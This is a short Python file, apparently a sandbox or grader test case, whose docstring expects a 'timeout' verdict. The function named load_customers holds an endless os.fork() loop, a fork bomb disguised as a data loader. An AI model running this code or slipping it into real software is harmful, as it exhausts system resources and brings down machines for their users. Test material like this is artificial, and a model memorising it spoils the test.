"""Forks until nothing is left to fork.

Verdict: timeout
"""

import os


def load_customers(url):
    while True:
        try:
            os.fork()
        except OSError:
            pass
